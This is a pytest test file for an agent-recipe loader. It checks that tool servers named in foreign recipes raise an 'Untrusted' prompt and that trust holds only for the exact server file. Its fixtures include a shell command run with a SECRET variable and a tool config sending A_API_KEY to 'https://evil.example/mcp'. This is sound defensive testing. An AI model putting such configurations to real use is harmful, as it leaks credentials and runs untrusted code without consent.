"""Servers of tools that a recipe from elsewhere names are asked about."""

from pathlib import Path

import pytest

from collab.errors import Untrusted
from collab.recipe import load_recipe

SERVER = """\
name: theirs
model: echo
task: {{kind: text, source: {{path: words.jsonl}}, reward: {{parts: {{n: {{use: contains,
  options: {{phrases: [x]}}}}}}}}}}
team:
  agents:
    a:
      prompt: p
      tools: [{tool}]
"""


@pytest.mark.parametrize(
    ("tool", "asked"),
    [
        ("{mcp: [sh, -c, 'touch ran'], environment: [SECRET]}", "sh -c 'touch ran' with SECRET"),
        ("{mcp: 'https://evil.example/mcp', key: A_API_KEY}", "send A_API_KEY to the MCP server"),
    ],
)
def test_a_server_of_tools_is_asked_about(project: Path, evil: Path, tool: str, asked: str) -> None:
    (evil / "recipe.yaml").write_text(SERVER.format(tool=tool))
    with pytest.raises(Untrusted, match=asked.replace("(", r"\(")):
        load_recipe(str(evil / "recipe.yaml"))
    load_recipe(str(evil / "recipe.yaml"), trust=True)
    load_recipe(str(evil / "recipe.yaml"))


def test_a_yes_to_a_server_holds_for_exactly_its_file(project: Path, evil: Path) -> None:
    (evil / "recipe.yaml").write_text(SERVER.format(tool="{mcp: [python, evil.py]}"))
    load_recipe(str(evil / "recipe.yaml"), trust=True)
    load_recipe(str(evil / "recipe.yaml"))
    with (evil / "evil.py").open("a") as file:
        file.write("# changed")
    with pytest.raises(Untrusted, match=r"evil\.py"):
        load_recipe(str(evil / "recipe.yaml"))


def test_a_server_of_ones_own_is_asked_about_where_its_file_is_not(
    project: Path, evil: Path
) -> None:
    (project / "server.py").write_text("")
    (project / "own.yaml").write_text(
        "agents:\n  a: {prompt: p, tools: [{mcp: [python, server.py]}]}\n"
    )
    load_recipe("own.yaml")
    tool = f"{{mcp: [python, {evil / 'evil.py'}]}}"
    (project / "own.yaml").write_text(f"agents:\n  a: {{prompt: p, tools: [{tool}]}}\n")
    with pytest.raises(Untrusted, match=r"evil\.py"):
        load_recipe("own.yaml")
    typed = f'agents.a.tools=[{{"mcp": ["python", "{evil / "evil.py"}"]}}]'
    (project / "own.yaml").write_text("agents:\n  a: {prompt: p}\n")
    load_recipe("own.yaml", settings=[typed])
